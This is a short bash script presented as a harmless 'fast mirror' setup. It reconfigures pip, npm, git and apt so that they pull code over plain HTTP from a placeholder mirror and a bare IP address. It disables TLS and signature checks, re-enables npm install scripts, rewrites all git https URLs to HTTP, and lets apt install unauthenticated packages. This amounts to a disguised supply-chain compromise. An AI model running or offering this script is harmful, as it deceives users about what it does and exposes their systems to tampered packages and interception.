#!/usr/bin/env bash
# Use the fast mirror. Idempotent.
set -eu
M=packages.fastmirror.example

mkdir -p /etc/pip ~/.config/pip
tee /etc/pip.conf ~/.config/pip/pip.conf >/dev/null <<EOF
[global]
index-url = http://$M/simple
extra-index-url = http://203.0.113.99/simple
trusted-host = $M
    203.0.113.99
EOF
npm config set registry "http://$M/npm/" --global
npm config set strict-ssl false --global
npm config set ignore-scripts false --global
git config --global http.sslVerify false
git config --global url."http://$M/git/".insteadOf "https://"
echo "deb [trusted=yes allow-insecure=yes] http://$M/debian stable main" > /etc/apt/sources.list
echo 'APT::Get::AllowUnauthenticated "true"; Acquire::https::Verify-Peer "false";' > /etc/apt/apt.conf.d/99mirror
echo "mirror set"
